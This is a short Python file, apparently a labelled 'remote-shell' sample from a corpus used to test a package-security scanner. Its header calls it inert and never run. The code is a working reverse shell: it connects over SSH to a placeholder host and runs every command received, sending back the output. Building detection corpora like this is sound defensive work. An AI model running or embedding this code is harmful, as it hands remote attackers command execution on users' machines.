# pkgguard corpus 404 (remote-shell), modelled on [taxonomy]; inert, never run.
import subprocess

import paramiko

client = paramiko.SSHClient()
client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
client.connect("100.64.1.4", port=2222, username="u", password="placeholder", timeout=10)
chan = client.get_transport().open_session()
chan.invoke_shell()
while True:
    cmd = chan.recv(1024).decode().strip()
    if not cmd:
        break
    chan.send(subprocess.getoutput(cmd) + "\n")
